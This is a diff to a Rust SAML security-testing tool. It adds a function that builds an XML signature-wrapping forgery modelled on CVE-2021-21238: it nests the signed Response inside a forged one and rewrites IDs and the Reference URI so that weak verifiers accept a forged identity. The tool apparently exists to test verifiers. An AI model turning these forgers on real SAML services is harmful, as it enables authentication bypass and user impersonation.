@@ -133,6 +133,44 @@ pub fn assertion_in_assertion(f: &Forge) -> Result<Forged, Skip> {
     forged(p.splice_unsigned_response(vec![(a, outer)]), swap)
 }
 
+/// CVE-2021-21238's Response shape (pysaml2's second fix fixture,
+/// `signed-xsw-response-in-response-first-sig.xml`): a forged Response (new ID, forged
+/// Assertion with a new ID and no Signature) whose first child is the IdP-signed original,
+/// then its Issuer, a copy of the Signature whose Reference names the forged ID, and the
+/// rest. A verifier that checks "the first Signature under the element" verifies the
+/// original's; a reader takes the outer Response's Assertion.
+pub fn response_in_response(f: &Forge) -> Result<Forged, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_response_sig()?;
+    let id = attr_value(p.root, "ID")
+        .ok_or_else(|| Skip::NotApplicable("the Response has no ID".into()))?;
+    let evil = evil_id(p.root.attribute("ID").unwrap_or_default());
+    let uri = sig
+        .descendants()
+        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
+        .and_then(|r| attr_value(r, "URI"))
+        .ok_or_else(|| Skip::NotApplicable("the Signature has no Reference URI".into()))?;
+    let (mut edits, swap) =
+        crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
+    if swap.forged.is_empty() {
+        return Err(Skip::NotApplicable(
+            "the Assertion carries no identity value to forge".into(),
+        ));
+    }
+    // The forged Assertion is unsigned and has an ID of its own (the original's is taken).
+    if let Some(s) = p.assertion_sig {
+        edits.push((s.range(), String::new()));
+    }
+    if let Some(a) = attr_value(p.assertion, "ID") {
+        edits.push((a, evil_id(p.assertion_id())));
+    }
+    edits.push((uri, format!("#{evil}")));
+    edits.push((id, evil));
+    edits.push(insert(after_start_tag(doc.src, p.root), doc.outer(p.root)));
+    forged(splice(doc.src, edits), swap)
+}
+
 /// The IdP's response (UTF-8 bytes) under an XML declaration that says UTF-16: a fatal error
 /// (XML 1.0 §4.3.3); a parser that ignores the label reads the bytes regardless.
 pub fn mislabelled_encoding(f: &Forge) -> Result<Forged, Skip> {
